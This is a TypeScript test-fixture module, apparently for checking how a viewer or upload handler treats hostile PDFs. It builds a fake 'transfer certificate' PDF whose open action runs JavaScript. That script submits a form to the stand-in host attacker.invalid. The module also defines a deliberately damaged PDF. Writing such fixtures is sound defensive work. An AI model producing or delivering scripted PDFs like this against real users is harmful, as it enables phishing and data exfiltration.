/**
 * A small PDF written by hand, the kind an attacker sends as a transfer certificate: `pages` pages of text and a
 * blue box, and, unless `script` is false, JavaScript run when it opens (/OpenAction and the document's
 * JavaScript names) that a viewer embedding it would run in the page's origin.
 */
export function pdfDocument({ pages = 1, script = true }: { pages?: number; script?: boolean } = {}): Buffer {
  const objects: string[] = [];
  const pageRefs: string[] = [];
  // 1 catalogue, 2 page tree, 3 font, then a page and its content for each page, then the script.
  let next = 4;
  for (let page = 1; page <= pages; page += 1) {
    const content = `BT /F1 24 Tf 72 720 Td (Transfer certificate, page ${page}) Tj ET 0 0 1 rg 72 600 200 60 re f`;
    objects[next] =
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> ` +
      `/Contents ${next + 1} 0 R >>`;
    objects[next + 1] = `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
    pageRefs.push(`${next} 0 R`);
    next += 2;
  }
  const action = next;
  const scripted = script
    ? ` /OpenAction ${action} 0 R /Names << /JavaScript << /Names [(open) ${action} 0 R] >> >>`
    : '';
  objects[1] = `<< /Type /Catalog /Pages 2 0 R${scripted} >>`;
  objects[2] = `<< /Type /Pages /Kids [${pageRefs.join(' ')}] /Count ${pages} >>`;
  objects[3] = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
  objects[action] =
    "<< /S /JavaScript /JS (app.alert\\('certificate'\\); this.submitForm\\('https://attacker.invalid/'\\);) >>";
  let text = '%PDF-1.7\n';
  const offsets: number[] = [];
  for (let number = 1; number < objects.length; number += 1) {
    offsets[number] = text.length;
    text += `${number} 0 obj\n${objects[number]}\nendobj\n`;
  }
  const xref = text.length;
  text += `xref\n0 ${objects.length}\n0000000000 65535 f \n`;
  for (let number = 1; number < objects.length; number += 1) {
    text += `${String(offsets[number]).padStart(10, '0')} 00000 n \n`;
  }
  text += `trailer\n<< /Size ${objects.length} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

/** Starts as a PDF does (the type check passes) and is nothing after. */
export const damagedPdf = Buffer.from(
  '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R\nthis is not a document',
  'latin1',
);
